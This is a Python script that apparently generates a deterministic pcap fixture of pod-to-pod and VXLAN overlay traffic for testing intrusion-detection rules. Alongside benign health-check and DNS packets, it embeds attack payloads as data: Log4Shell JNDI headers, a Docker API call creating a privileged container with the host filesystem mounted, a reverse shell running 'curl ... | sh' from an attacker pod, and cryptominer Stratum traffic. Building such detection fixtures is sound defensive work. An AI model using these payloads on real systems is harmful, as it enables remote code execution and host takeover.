#!/usr/bin/env python3
"""Writes pcaps/demo-container-attacks.pcap: a small, deterministic capture of traffic between
pods on a container bridge (10.244.1.0/24) and across a VXLAN overlay (flannel, UDP 8472),
with a benign health check and a handful of attacks the shipped rules must catch.

The packets are synthesised (correct lengths and checksums, full TCP handshakes and
teardowns) so the file is reproducible without root; real captures from the namespace lab
come with the live-capture work. Run: python3 pcaps/tools/make_demo.py
"""
import os
import struct

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "demo-container-attacks.pcap")
T0 = 1795000000  # 2026-11-18


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip4(a: str) -> bytes:
    return bytes(int(x) for x in a.split("."))


def mac(n: int) -> bytes:
    return bytes([0x02, 0x42, 0x0A, 0xF4, 0x01, n])


def ipv4(src, dst, proto, payload, ident):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, 64, proto, 0, ip4(src), ip4(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + payload


def tcp(src, dst, sport, dport, seq, ack, flags, payload=b""):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, 6, len(hdr) + len(payload))
    c = csum(pseudo + hdr + payload)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:] + payload


def udp(src, dst, sport, dport, payload):
    hdr = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, 17, len(hdr) + len(payload))
    c = csum(pseudo + hdr + payload) or 0xFFFF
    return hdr[:6] + struct.pack("!H", c) + payload


def ether(smac, dmac, payload, ethertype=0x0800):
    return dmac + smac + struct.pack("!H", ethertype) + payload


class Capture:
    def __init__(self):
        self.records = []
        self.t = T0
        self.ident = 1

    def add(self, frame):
        self.t += 0.0125
        sec = int(self.t)
        usec = int(round((self.t - sec) * 1e6))
        self.records.append((sec, usec, frame))

    def frame(self, src, dst, seg, proto=6, vxlan=None):
        self.ident += 1
        inner = ether(mac(int(src.split(".")[3])), mac(int(dst.split(".")[3])), ipv4(src, dst, proto, seg, self.ident))
        if vxlan is None:
            return inner
        node_src, node_dst, vni = vxlan
        vx = struct.pack("!BBHI", 0x08, 0, 0, vni << 8) + inner
        outer = ipv4(node_src, node_dst, 17, udp(node_src, node_dst, 40000 + self.ident % 1000, 8472, vx), self.ident)
        return ether(mac(250), mac(251), outer)

    def session(self, client, server, cport, sport, requests, vxlan=None):
        """A whole TCP session: handshake, (client data, server data) exchanges, FIN teardown."""
        cseq, sseq = 1000 + cport, 5000 + sport
        f = lambda s, d, sp, dp, sq, ak, fl, pl=b"": self.add(self.frame(s, d, tcp(s, d, sp, dp, sq, ak, fl, pl), vxlan=vxlan))
        f(client, server, cport, sport, cseq, 0, 0x02)
        f(server, client, sport, cport, sseq, cseq + 1, 0x12)
        cseq += 1
        sseq += 1
        f(client, server, cport, sport, cseq, sseq, 0x10)
        for c_data, s_data in requests:
            if c_data:
                f(client, server, cport, sport, cseq, sseq, 0x18, c_data)
                cseq += len(c_data)
                f(server, client, sport, cport, sseq, cseq, 0x10)
            if s_data:
                f(server, client, sport, cport, sseq, cseq, 0x18, s_data)
                sseq += len(s_data)
                f(client, server, cport, sport, cseq, sseq, 0x10)
        f(client, server, cport, sport, cseq, sseq, 0x11)
        f(server, client, sport, cport, sseq, cseq + 1, 0x11)
        f(client, server, cport, sport, cseq + 1, sseq + 1, 0x10)

    def write(self, path):
        with open(path, "wb") as fh:
            fh.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
            for sec, usec, frame in self.records:
                fh.write(struct.pack("<IIII", sec, usec, len(frame), len(frame)))
                fh.write(frame)


def http_request(method, path, host, headers=(), body=b""):
    lines = ["%s %s HTTP/1.1" % (method, path), "Host: %s" % host, "User-Agent: curl/8.5.0", "Accept: */*"]
    lines += list(headers)
    if body:
        lines.append("Content-Type: application/json")
        lines.append("Content-Length: %d" % len(body))
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def http_response(status, body):
    return ("HTTP/1.1 %s\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n" % (status, len(body))).encode() + body


def main():
    cap = Capture()
    web, api, attacker, node = "10.244.1.10", "10.244.1.20", "10.244.1.66", "10.244.1.1"
    # 1. benign: a health check between two pods
    cap.session(api, web, 41000, 8080, [(http_request("GET", "/healthz", "web:8080"), http_response("200 OK", b"ok\n"))])
    # 2. Log4Shell in a header against the web pod
    cap.session(attacker, web, 41001, 8080, [(http_request("GET", "/", "web:8080",
        ["X-Api-Version: ${jndi:ldap://10.244.1.66:1389/Basic/Command/Base64/aWQ=}"]), http_response("200 OK", b"hello\n"))])
    # 3. Docker Engine API on the node's bridge address: create a privileged container
    body = b'{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}'
    cap.session(attacker, node, 41002, 2375, [(http_request("POST", "/v1.41/containers/create", "10.244.1.1:2375", body=body),
        http_response("201 Created", b'{"Id":"4f1c","Warnings":[]}'))])
    # 4. reverse shell from the web pod back to the attacker, with download-and-execute
    cap.session(web, attacker, 41003, 4444, [(b"", b"id\n"), (b"uid=0(root) gid=0(root) groups=0(root)\n", b""),
        (b"", b"curl -s http://10.244.1.66/x.sh | sh\n"), (b"ok\n", b"")])
    # 5. a cryptominer in the web pod talking Stratum to a pool
    cap.session(web, attacker, 41004, 3333, [(b'{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}\n',
        b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],"error":null}\n')])
    # 6. cross-node: Log4Shell from a pod on node 2, seen on the flannel VXLAN overlay (UDP 8472, VNI 1)
    cap.session("10.244.2.30", web, 41005, 8080, [(http_request("GET", "/", "web:8080",
        ["User-Agent: ${jndi:ldap://10.244.2.30:1389/a}"]), http_response("200 OK", b"hello\n"))],
        vxlan=("192.168.56.11", "192.168.56.10", 1))
    # 7. benign DNS lookup of a cluster service
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x03web\x07default\x03svc\x07cluster\x05local\x00" + struct.pack("!HH", 1, 1)
    cap.add(cap.frame(api, "10.244.1.2", udp(api, "10.244.1.2", 53001, 53, q), proto=17))
    cap.write(OUT)
    print("wrote %s (%d packets)" % (os.path.normpath(OUT), len(cap.records)))


if __name__ == "__main__":
    main()
